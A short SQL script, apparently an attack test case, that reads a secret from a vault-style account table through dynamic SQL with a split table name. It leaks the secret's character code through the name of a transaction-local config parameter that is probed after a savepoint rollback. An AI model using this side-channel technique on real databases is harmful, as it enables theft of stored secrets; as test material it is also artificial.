-- Makes up a parameter by a letter, goes back to a savepoint and shows what there is.
-- wants: read
-- shows: letter-116
-- attack:
BEGIN;
SAVEPOINT s;
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
ROLLBACK TO s;
-- repeat: 112..118
SAVEPOINT t;
SHOW "x.y1_{n}";
SELECT 'letter' || '-{n}';
ROLLBACK TO t;
